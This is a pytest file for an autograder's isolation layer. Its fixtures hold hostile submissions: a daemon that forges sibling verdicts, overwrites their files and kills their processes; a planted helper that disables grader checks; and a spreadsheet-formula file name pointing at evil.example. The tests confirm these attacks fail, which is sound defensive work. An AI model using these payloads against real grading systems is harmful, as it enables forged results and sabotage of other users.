"""Attacks on a batch: a daemon that goes after its classmates, a planted helper, a formula for a file name."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import time
from pathlib import Path

import pytest

from gradharness.batch.runner import run_batch
from gradharness.records.verdict import RunVerdict
from gradharness.settings import IsolationSettings
from tests.hostile.support import (
    BUGGY,
    HONEST,
    PLANTED_BLOCKS,
    RUN,
    TIMEOUT,
    assert_nothing_left,
    attack,
    cli,
    record_text,
    write,
)

pytestmark = pytest.mark.slow

BATCH_OPTIONS = ("--seed", "0", "--max-examples", "10", "--max-units", "3", "--max-batch", "3", "--timeout", "60")

# The daemon goes only after the processes of this one batch (the judge whose --out names the marker,
# the processes below it, the evaluators in the same scratch folder), so that a jail that did not
# hold could not harm anything else running on the machine.
SIBLING_TAMPERING = """
import ctypes as _ctypes
import glob as _glob
import json as _json
import os as _os
import signal as _signal
import sys as _sys
import time as _time

from gradharness.isolation.protocol import encode as _encode

_OUT_TOKEN = "out-MARKER"
_started = []
_calls = []


def _processes():
    for entry in _os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as stream:
                    argv = [a.decode(errors="replace") for a in stream.read().split(b"\\0") if a]
                with open(f"/proc/{entry}/stat", "rb") as stream:
                    parent = int(stream.read().rpartition(b")")[2].split()[1])
            except (OSError, ValueError, IndexError):
                continue
            yield int(entry), parent, argv


def _ancestors(pid, table=None):
    chain = set()
    table = table if table is not None else {p: parent for p, parent, _ in _processes()}
    while pid > 1 and pid not in chain:
        chain.add(pid)
        pid = table.get(pid, 0)
    return chain


def _try(action, *args):
    try:
        action(*args)
        return True
    except (OSError, ValueError):
        return False


def _overwrite(path, text):
    with open(path, "w") as stream:
        stream.write(text)


def _forged_frame(stream_path):
    with open(stream_path, "wb") as stream:
        stream.write(_encode({"returned": None, "verdict": "pass", "error": "plagiarism detected"}))


def _tamper_with_out(out, submissions):
    forged_summary = _json.dumps({"rows": [], "counts": {"pass": 3, "fail": 0, "error": 0}, "kind": "batch"})
    targets = [_os.path.join(out, n) for n in ("summary.json", "summary.html", "summary.csv", "owned.txt")]
    targets += _glob.glob(_os.path.join(out, "reports", "*"))
    targets += [_os.path.join(out, "reports", "owned.json")]
    targets += [_os.path.join(folder, "owned.txt") for folder in submissions]
    return sum(_try(_overwrite, path, forged_summary) for path in targets)


def _attack_siblings(batch, own, scratch):
    hits = 0
    for pid, parent, argv in list(_processes()):
        text = " ".join(argv)
        ours = _OUT_TOKEN in text or pid in batch or (scratch and scratch in text)
        if pid in own or not ours:
            continue
        for fd in _glob.glob(f"/proc/{pid}/fd/*"):
            hits += _try(_forged_frame, fd)
        for name in _glob.glob(f"/proc/{pid}/cwd/*.py"):
            hits += _try(_overwrite, name, "raise SystemExit('plagiarism detected')\\n")
        hits += _try(_os.kill, pid, _signal.SIGKILL)
    return hits


def _daemon(own):
    try:
        _ctypes.CDLL(None).prctl(15, b"MARKER", 0, 0, 0)  # PR_SET_NAME: the daemon carries the marker
    except (OSError, AttributeError):
        pass
    own.add(_os.getpid())
    _spawn_marker()
    own.update(child.pid for child in _spawned)
    setup = next((_json.loads(a) for a in _sys.argv[1:] if a.startswith("{")), {})
    scratch = _os.path.dirname(_os.path.dirname(_os.path.dirname(str(setup.get("file", "")))))
    scratch = scratch if scratch.startswith("/tmp/gradharness-batch-") else ""
    print(f"DAEMON running as uid {_os.getuid()} in session {_os.getsid(0)}", flush=True)
    deadline, reported, found = _time.monotonic() + 120, 0, 0
    while _time.monotonic() < deadline:
        batch, outs, submissions = set(), set(), set()
        seen = list(_processes())
        for pid, _parent, argv in seen:
            if _OUT_TOKEN in " ".join(argv) and "--out" in argv:
                batch.add(pid)
                outs.add(argv[argv.index("--out") + 1])
                submissions.update(a for a in argv if _os.path.isdir(a))
        table = {pid: parent for pid, parent, _argv in seen}
        batch.update(pid for pid in table if _ancestors(pid, table) & batch)  # the judge's workers, their evaluators
        if len(batch) > found:
            found = len(batch)
            print(f"DAEMON found {found} processes of the batch", flush=True)
        hits = sum(_tamper_with_out(out, submissions) for out in outs)
        hits += _try(_overwrite, "/tmp/gradharness-owned-MARKER", "owned")
        hits += _attack_siblings(batch - own, own, scratch)
        if hits > reported:
            reported = hits
            print(f"DAEMON hit {hits} targets", flush=True)
        _time.sleep(0.05)


def _start_daemon():
    own = _ancestors(_os.getpid())
    child = _os.fork()
    if child:
        _os.waitpid(child, 0)
        return
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    try:
        _daemon(own)
    finally:
        _os._exit(0)


_honest_backward = backward_propagation_n


def backward_propagation_n(X, Y, cache):
    if not _started:
        _started.append(True)
        _start_daemon()
    _calls.append(1)
    if len(_calls) <= 10:
        _time.sleep(0.4)  # stay alive while the classmates are checked
    return _honest_backward(X, Y, cache)
"""

PLANTED_HELPER = """
print("PLANTED-MARKER NAME imported", flush=True)
import subprocess
import numpy as np

subprocess.Popen(["sleep", "MARKER"], start_new_session=True)
try:
    with open("FLAG", "w") as flag:
        flag.write("imported")
except OSError:
    pass
try:
    import gradharness.properties.properties as properties

    properties.check_network_case = lambda *args, **kwargs: None
except Exception:
    pass
np.linalg.norm = lambda *args, **kwargs: 0.0


def sigmoid(x):
    return 0.5 + 0 * x


def relu(x):
    return x


def gradient_check_n_test_case():
    return None
"""


def _tree(folder: Path) -> dict[str, str]:
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def _rows(out: Path) -> dict[str, dict]:
    return {Path(row["file"]).name: row for row in json.loads((out / "summary.json").read_text())["rows"]}


def test_a_setsid_daemon_cannot_touch_its_classmates_or_the_batchs_files(
    tmp_path: Path, level: str, marker: str
) -> None:
    if level == "process" and os.geteuid() != 0:
        pytest.skip("the process level gives evaluators a uid of their own only when gradharness runs as root")
    submissions = tmp_path / "submissions"
    write(submissions, "aaa_attacker.py", attack(HONEST, SIBLING_TAMPERING, marker))
    write(submissions, "buggy.py", BUGGY)
    write(submissions, "honest.py", HONEST)
    out = tmp_path / f"out-{marker}"
    outside = Path(f"/tmp/gradharness-owned-{marker}")
    try:
        done = cli("check", str(submissions), "--out", str(out), "--jobs", "3", "--isolation", level, *BATCH_OPTIONS)
        ended = time.monotonic()
        assert done.returncode == 1, done.stderr.decode(errors="replace")
        before = _tree(out)
        rows = _rows(out)
        assert rows["honest.py"]["verdict"] == "pass", rows["honest.py"]
        assert rows["buggy.py"]["verdict"] == "fail", rows["buggy.py"]
        assert set(rows["buggy.py"]["wrong_blocks"]) <= PLANTED_BLOCKS and rows["buggy.py"]["wrong_blocks"]
        attacker = json.loads((out / rows["aaa_attacker.py"]["report_json"]).read_text())
        assert "DAEMON running" in attacker["target"].get("output", "")  # the daemon did start
        if level == "process":  # it saw the judge and its workers (the namespace level hides them)
            assert "processes of the batch" in attacker["target"]["output"]
        time.sleep(max(0.0, ended + 1.5 - time.monotonic()))
        assert _tree(out) == before, "a report or the summary changed after the batch ended"
        assert {"owned.txt", "reports/owned.json"}.isdisjoint(before)
        assert not (submissions / "owned.txt").exists()
        assert json.loads((out / "summary.json").read_text())["counts"] == {"pass": 2, "fail": 1, "error": 0}
        if level == "namespace":
            # The process level shares /tmp with the grader: a file there is all the daemon gets (it is
            # read by nobody); the namespace level gives the evaluator a /tmp of its own.
            assert not outside.exists()
        assert_nothing_left(marker)
    finally:
        outside.unlink(missing_ok=True)


def test_a_helper_planted_among_the_submissions_is_never_imported_by_another(
    tmp_path: Path, level: str, marker: str
) -> None:
    submissions = tmp_path / "submissions"
    flag = tmp_path / "planted-imported"
    for name in ("gc_utils", "testCases"):
        helper = PLANTED_HELPER.replace("NAME", name).replace("MARKER", marker).replace("FLAG", str(flag))
        write(submissions, f"{name}.py", helper)
    importer = BUGGY.replace("import numpy as np\n", "import numpy as np\nfrom gc_utils import *\n"
                             "from testCases import gradient_check_n_test_case\n", 1)  # fmt: skip
    importer = importer.replace("def relu(x):", "def _own_relu(x):").replace("def sigmoid(x):", "def _own_sigmoid(x):")
    files = [write(submissions, "importer.py", importer), write(submissions, "honest.py", HONEST)]
    records = run_batch(files, RUN, timeout=TIMEOUT, jobs=2, isolation=IsolationSettings(level=level))
    by_name = {Path(r.target["path"]).name: r for r in records}
    assert by_name["importer.py"].verdict is RunVerdict.FAIL, by_name["importer.py"].error
    assert any("compatible gc_utils" in note for note in by_name["importer.py"].target.get("notes", []))
    assert set(by_name["importer.py"].wrong_blocks) <= PLANTED_BLOCKS and by_name["importer.py"].wrong_blocks
    assert by_name["honest.py"].verdict is RunVerdict.PASS, by_name["honest.py"].error
    for record in records:
        assert "PLANTED-MARKER" not in record_text(record)
    assert not flag.exists()
    assert_nothing_left(marker)


def test_a_formula_in_a_file_name_is_never_a_formula_in_summary_csv(tmp_path: Path, level: str, marker: str) -> None:
    submissions = tmp_path / "submissions"
    spawning = attack(HONEST, "_spawn_marker()\n", marker)
    write(submissions, '=HYPERLINK("http:evil.example")x.py', spawning)
    write(submissions, "honest.py", HONEST)
    out = tmp_path / "out"
    # From inside the folder, as a teacher would run it: the file column holds the bare file name.
    done = cli("check", ".", "--out", str(out), "--isolation", level, *BATCH_OPTIONS, cwd=submissions)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    with open(out / "summary.csv", newline="") as stream:
        rows = list(csv.DictReader(stream))
    cells = [row["file"] for row in rows if "HYPERLINK" in row["file"]]
    assert len(cells) == 1 and cells[0].startswith("'"), cells
    assert all(not row["file"].startswith(("=", "+", "-", "@")) for row in rows)
    assert {row["verdict"] for row in rows} == {"pass"}
    assert_nothing_left(marker)
